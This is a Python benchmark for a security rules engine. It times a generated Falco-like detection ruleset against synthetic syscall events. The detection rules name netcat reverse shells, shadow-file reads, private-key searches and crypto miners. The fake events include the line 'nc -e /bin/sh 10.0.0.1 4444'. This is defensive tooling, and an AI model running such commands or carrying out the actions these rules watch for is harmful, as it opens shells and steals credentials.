"""Rules engine throughput: events/s through one Ruleset on a realistic mix
of enriched events, against a baseline measured in the same run (every
enabled rule on every event, no kind index).

    python -m bench.rules_bench [--events 50000] [--rules FILE_OR_DIR ...]

Uses the default ruleset (services/alerter/rules/*.yaml) when present, else
a generated Falco-like ruleset. Prints events/s and the ratio; the numbers
are for comparison within one run, not absolute targets.
"""
from __future__ import annotations

import argparse
import random
import time
from pathlib import Path

from services.alerter.engine import Ruleset, load_rules, load_rules_text

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_RULES = ROOT / "services" / "alerter" / "rules"

GENERATED = """
- list: shell_binaries
  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]
- list: sensitive_file_names
  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/security/pwquality.conf, /root/.ssh/authorized_keys]
- list: bin_dirs
  items: [/bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin]
- list: package_mgmt_binaries
  items: [apt, apt-get, dpkg, yum, rpm, dnf, apk, pip, pip3, npm]
- list: miner_ports
  items: [3333, 4444, 5555, 7777, 14444, 45700]
- list: allowed_outbound_ports
  items: [53, 80, 443, 5432, 6379, 8080]
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- macro: container
  condition: (container.id != host)
- macro: open_read
  condition: evt.type in (open, openat, openat2) and evt.is_open_read = true and evt.rawres >= 0
- macro: open_write
  condition: evt.type in (open, openat, openat2) and evt.is_open_write = true and evt.rawres >= 0
- macro: outbound
  condition: evt.type = connect and fd.typechar in (4, 6) and not fd.snet in (127.0.0.0/8, ::1/128)
- macro: user_known_write_below_etc
  condition: (proc.name in (package_mgmt_binaries) or proc.pname in (package_mgmt_binaries))
- rule: Terminal shell in container
  desc: a shell with a terminal in a container
  condition: spawned_process and container and proc.name in (shell_binaries) and proc.tty exists
  output: "Shell in container (user=%user.name cmd=%proc.cmdline container=%container.name image=%container.image)"
  priority: NOTICE
  tags: [container, shell, mitre_execution]
- rule: Shell spawned by web server
  desc: web server spawned a shell
  condition: spawned_process and proc.name in (shell_binaries) and proc.pname in (nginx, httpd, apache2, node)
  output: "Shell from web server (cmd=%proc.cmdline parent=%proc.pname container=%container.id)"
  priority: WARNING
- rule: Read sensitive file untrusted
  desc: read of a sensitive file
  condition: open_read and fd.name in (sensitive_file_names) and not proc.name in (sshd, sudo, su, login)
  output: "Sensitive file read (file=%fd.name cmd=%proc.cmdline container=%container.id)"
  priority: WARNING
- rule: Write below etc
  desc: write below /etc
  condition: open_write and fd.name startswith /etc/ and not user_known_write_below_etc
  output: "File below /etc opened for writing (file=%fd.name cmd=%proc.cmdline)"
  priority: ERROR
- rule: Write below binary dir
  desc: write below a binary dir
  condition: open_write and fd.directory in (bin_dirs) and not user_known_write_below_etc
  output: "File below a binary dir opened for writing (file=%fd.name cmd=%proc.cmdline)"
  priority: ERROR
- rule: Write below root
  desc: write below /root
  condition: open_write and fd.name pmatch (/root) and not fd.name endswith .bash_history
  output: "File below /root written (file=%fd.name)"
  priority: WARNING
- rule: Contact cloud metadata
  desc: connection to the cloud metadata service
  condition: outbound and container and fd.sip = 169.254.169.254
  output: "Metadata contacted (cmd=%proc.cmdline connection=%fd.name container=%container.id)"
  priority: NOTICE
- rule: Unexpected outbound port
  desc: outbound connection to an unusual port
  condition: outbound and container and not fd.sport in (allowed_outbound_ports)
  output: "Outbound to unusual port (connection=%fd.name cmd=%proc.cmdline)"
  priority: NOTICE
- rule: Crypto miner port
  desc: connection to a mining pool port
  condition: outbound and fd.sport in (miner_ports)
  output: "Miner port (connection=%fd.name cmd=%proc.cmdline)"
  priority: CRITICAL
- rule: Crypto miner args
  desc: mining pool in a command line
  condition: spawned_process and (proc.cmdline contains stratum+tcp or proc.name in (xmrig, minerd))
  output: "Miner launched (cmd=%proc.cmdline)"
  priority: CRITICAL
- rule: Netcat remote code execution
  desc: netcat with -e
  condition: spawned_process and container and proc.name in (nc, ncat) and (proc.args contains "-e" or proc.args contains "-c")
  output: "Netcat RCE (cmd=%proc.cmdline)"
  priority: WARNING
- rule: Package management in container
  desc: package manager run in a container
  condition: spawned_process and container and proc.name in (package_mgmt_binaries)
  output: "Package management (cmd=%proc.cmdline container=%container.name)"
  priority: ERROR
- rule: Search private keys
  desc: search for keys or passwords
  condition: spawned_process and ((proc.name = find and proc.args icontains id_rsa) or (proc.name = grep and proc.args contains "BEGIN RSA"))
  output: "Key search (cmd=%proc.cmdline)"
  priority: WARNING
- rule: PTRACE attached
  desc: ptrace attach
  condition: evt.type = ptrace and evt.arg.request in (16, 0x4206) and container
  output: "ptrace (cmd=%proc.cmdline target=%evt.arg.target_pid)"
  priority: WARNING
- rule: Setuid to root
  desc: non-root process became root
  condition: evt.type in (setuid, setresuid) and evt.arg.uid = 0 and user.uid != 0
  output: "setuid root (cmd=%proc.cmdline uid=%user.uid)"
  priority: NOTICE
- rule: Mount in container
  desc: mount in a container
  condition: evt.type = mount and container and evt.rawres >= 0
  output: "mount (source=%evt.arg.source target=%evt.arg.target)"
  priority: WARNING
- rule: BPF program load
  desc: bpf syscall
  condition: evt.type = bpf and evt.arg.cmd = 5 and container
  output: "bpf prog load (cmd=%proc.cmdline)"
  priority: NOTICE
- rule: Kernel module load
  desc: module load
  condition: evt.type in (init_module, finit_module)
  output: "module (name=%evt.arg.name cmd=%proc.cmdline)"
  priority: CRITICAL
- rule: Fileless memfd
  desc: memfd created in a container
  condition: evt.type = memfd_create and container
  output: "memfd (name=%fd.name cmd=%proc.cmdline)"
  priority: NOTICE
- rule: Namespace change
  desc: unshare or setns in a container
  condition: evt.type in (unshare, setns) and container
  output: "namespace change (cmd=%proc.cmdline)"
  priority: NOTICE
- rule: Delete bash history
  desc: shell history removed
  condition: evt.type in (unlink, unlinkat, rename) and (fd.name endswith .bash_history or fd.name glob '*/.ash_history')
  output: "History deleted (file=%fd.name)"
  priority: WARNING
- rule: Clear log activities
  desc: logs truncated
  condition: open_write and fd.name pmatch (/var/log) and evt.arg.flags >= 512
  output: "Log truncated (file=%fd.name)"
  priority: WARNING
- rule: Symlink to sensitive file
  desc: symlink to a sensitive file
  condition: evt.type in (symlink, symlinkat) and evt.arg.target in (sensitive_file_names)
  output: "Symlink (target=%evt.arg.target link=%fd.name)"
  priority: WARNING
- rule: Hardlink to sensitive file
  desc: hardlink to a sensitive file
  condition: evt.type in (link, linkat) and evt.arg.oldpath in (sensitive_file_names)
  output: "Hardlink (target=%evt.arg.oldpath link=%fd.name)"
  priority: WARNING
- rule: Setuid bit set
  desc: chmod with setuid
  condition: evt.type in (chmod, fchmodat) and evt.arg.mode >= 2048 and container
  output: "setuid bit (file=%fd.name mode=%evt.arg.mode)"
  priority: NOTICE
- rule: Packet socket
  desc: raw packet socket
  condition: evt.type = socket and fd.type = packet and container
  output: "packet socket (cmd=%proc.cmdline)"
  priority: NOTICE
- rule: Reverse shell redirect
  desc: stdio dup'ed to a network socket
  condition: evt.type in (dup, dup2, dup3) and evt.arg.newfd in (0, 1, 2) and fd.type in (ipv4, ipv6) and proc.name in (shell_binaries)
  output: "Reverse shell (cmd=%proc.cmdline)"
  priority: CRITICAL
- rule: Known bad process name
  desc: a process name seen in attacks, any syscall
  condition: proc.name in (xmrig, kinsing, kdevtmpfsi) or proc.exe startswith /tmp/.
  output: "Bad process (name=%proc.name exe=%proc.exe kind=%evt.type)"
  priority: ERROR
"""
_EXTRA = ["curl", "wget", "python3", "perl", "socat", "tcpdump", "nmap", "chattr", "base64", "dd", "scp",
          "ssh", "strace", "gdb", "insmod", "modprobe", "iptables", "useradd", "passwd", "crontab"]


def generated_rules() -> str:
    extra = "".join(f"""
- rule: Unexpected {b} in container
  desc: {b} run in a container
  condition: spawned_process and container and proc.name = {b} and not proc.pname in (shell_binaries)
  output: "{b} (cmd=%proc.cmdline parent=%proc.pname container=%container.name)"
  priority: INFORMATIONAL
- rule: Sensitive open by {b}
  desc: {b} opened a file below /etc/ssl
  condition: evt.type = open and proc.name = {b} and fd.name startswith /etc/ssl/
  output: "{b} opened %fd.name"
  priority: DEBUG
""" for b in _EXTRA)
    return GENERATED + extra


# --- a realistic event mix ---------------------------------------------

MIX = [("open", 45), ("exec", 12), ("connect", 9), ("fork", 6), ("exit", 6), ("accept", 3), ("unlink", 3),
       ("rename", 2), ("chmod", 2), ("socket", 3), ("dup", 2), ("setuid", 1), ("ptrace", 1), ("mount", 1),
       ("bpf", 1), ("module", 1), ("memfd", 1), ("unshare", 1), ("setns", 1)]
PROCS = [("nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]), ("bash", "/bin/bash", ["bash"]),
         ("python3", "/usr/bin/python3", ["python3", "app.py"]), ("sh", "/bin/sh", ["sh", "-c", "ls /"]),
         ("curl", "/usr/bin/curl", ["curl", "-s", "http://api:8080/health"]),
         ("postgres", "/usr/lib/postgresql/15/bin/postgres", ["postgres", "-D", "/var/lib/pg"]),
         ("apt-get", "/usr/bin/apt-get", ["apt-get", "install", "-y", "vim"]),
         ("nc", "/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), ("xmrig", "/tmp/.x/xmrig", ["xmrig"])]
PATHS = ["/etc/passwd", "/etc/shadow", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/proc/self/status",
         "/var/log/nginx/access.log", "/etc/ssl/certs/ca.pem", "/tmp/build.o", "/usr/bin/ls",
         "/root/.bash_history", "/app/static/index.html", "/dev/null", "/etc/ld.so.cache"]
ADDRS = [("169.254.169.254", 80), ("10.88.0.7", 5432), ("10.88.0.9", 443), ("1.2.3.4", 4444),
         ("127.0.0.1", 6379), ("10.88.0.10", 9999)]


def make_events(n: int, seed: int = 7) -> list[dict]:
    rnd = random.Random(seed)
    kinds = [k for k, w in MIX for _ in range(w)]
    out = []
    for i in range(n):
        kind = rnd.choice(kinds)
        name, exe, args = rnd.choice(PROCS)
        in_ctr = rnd.random() < 0.8
        ev = {"id": f"bench-{i}", "ts": 1_764_083_000_000_000_000 + i * 1000, "node": "n1", "kind": kind,
              "pid": 1000 + i % 500, "tid": 1000 + i % 500, "ppid": 999, "uid": rnd.choice((0, 0, 1000, 33)),
              "gid": 0, "comm": name, "cgroup_id": 5000 + i % 7,
              "proc": {"exe": exe, "args": args, "cmdline": " ".join(args), "name": name, "cwd": "/app",
                       "ppid": 999, "pname": rnd.choice(("containerd-shim", "bash", "nginx", "runc")),
                       "pexe": "/bin/bash", "pcmdline": "bash",
                       "ancestors": [{"pid": 999, "comm": "bash", "exe": "/bin/bash", "args": ["bash"]},
                                     {"pid": 1, "comm": "conmon", "exe": "/usr/bin/conmon", "args": []}]},
              "container": {"id": f"{i % 13:064x}", "name": f"app-{i % 13}", "image": "docker.io/library/nginx:1.25",
                            "runtime": "podman", "labels": {}} if in_ctr else None,
              "k8s": {"pod": f"app-{i % 13}", "namespace": "shop", "labels": {}} if in_ctr else None}
        if kind == "open":
            ev.update(path=rnd.choice(PATHS), flags=rnd.choice((0, 0, 0, 0o2000000, 1 | 0o100 | 0o1000, 2)),
                      mode=0o644, ret=rnd.choice((3, 3, 3, -2)))
        elif kind == "exec":
            ev.update(filename=exe, argv=args, ret=0)
        elif kind in ("connect", "accept"):
            ip, port = rnd.choice(ADDRS)
            ev.update(family=2, daddr=ip, dport=port, saddr="10.88.0.5", sport=40000 + i % 1000, proto=6, ret=0)
        elif kind in ("unlink", "chmod"):
            ev.update(path=rnd.choice(PATHS), mode=rnd.choice((0o644, 0o4755)), ret=0)
        elif kind == "rename":
            ev.update(oldpath="/tmp/x", newpath=rnd.choice(PATHS), ret=0)
        elif kind == "socket":
            ev.update(family=rnd.choice((2, 10, 1, 17)), type=1, protocol=0, ret=3)
        elif kind == "dup":
            ev.update(syscall="dup2", oldfd=3, newfd=rnd.choice((0, 1, 5)), fd_type=rnd.choice(("ipv4", "file")), ret=0)
        elif kind == "setuid":
            ev.update(syscall="setuid", uid=0, euid=0, suid=0, ret=0)
        elif kind == "ptrace":
            ev.update(request=16, target_pid=1, ret=0)
        elif kind == "mount":
            ev.update(source="proc", target="/mnt", fstype="proc", flags=0, ret=0)
        elif kind == "bpf":
            ev.update(cmd=5, prog_type=1, ret=3)
        elif kind == "module":
            ev.update(syscall="finit_module", name="x", fd=3, ret=-1)
        elif kind == "memfd":
            ev.update(name="jit", flags=1, ret=4)
        elif kind in ("unshare", "setns"):
            ev.update(flags=0x20000, fd=3, nstype=0, ret=0)
        elif kind == "exit":
            ev.update(exit_code=0)
        elif kind == "fork":
            ev.update(child_pid=ev["pid"] + 1)
        out.append(ev)
    return out


def measure(fn, events: list[dict], rounds: int) -> tuple[float, int]:
    """Best-of-`rounds` events/s and the number of matches of one pass."""
    best, matches = 0.0, 0
    for _ in range(rounds):
        t0 = time.perf_counter()
        matches = 0
        for ev in events:
            matches += len(fn(ev))
        dt = time.perf_counter() - t0
        best = max(best, len(events) / dt)
    return best, matches


def bench_one(label: str, load, events: list[dict], rounds: int) -> bool:
    t0 = time.perf_counter()
    rs: Ruleset = load()
    load_ms = (time.perf_counter() - t0) * 1000
    s = rs.summary()
    print(f"\nruleset: {label}: {s['rules']} rules ({s['enabled']} enabled), {s['macros']} macros, "
          f"{s['lists']} lists, {s['any_kind']} for any kind; load+compile {load_ms:.0f} ms")
    base_eps, base_m = measure(rs.evaluate_all, events, rounds)
    idx_eps, idx_m = measure(rs.evaluate, events, rounds)
    if base_m != idx_m:
        print(f"MISMATCH: baseline found {base_m} matches, engine {idx_m}")
        return False
    print(f"  baseline (every rule, generic code, no index): {base_eps:>10,.0f} events/s")
    print(f"  engine (kind index, per-kind code):            {idx_eps:>10,.0f} events/s")
    print(f"  ratio engine/baseline: {idx_eps / base_eps:.2f}x   matches: {idx_m / len(events):.2f}/event, "
          f"eval errors: {rs.eval_errors}")
    return True


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=50_000)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--rules", nargs="*", type=Path, help="rule files/dirs (default: the shipped ruleset "
                                                          "and a generated Falco-like one)")
    args = ap.parse_args(argv)
    events = make_events(args.events)
    print(f"events: {len(events)} ({', '.join(f'{k} {w}%' for k, w in MIX[:6])}, ...), best of {args.rounds}")
    runs = []
    if args.rules:
        runs.append((" ".join(map(str, args.rules)), lambda: load_rules(args.rules)))
    else:
        if list(DEFAULT_RULES.glob("*.yaml")):
            runs.append((str(DEFAULT_RULES.relative_to(ROOT)) + "/*.yaml", lambda: load_rules([DEFAULT_RULES])))
        runs.append(("generated Falco-like ruleset", lambda: load_rules_text(generated_rules(), "<generated>")))
    ok = all([bench_one(label, load, events, args.rounds) for label, load in runs])  # noqa: C419 (run all)
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
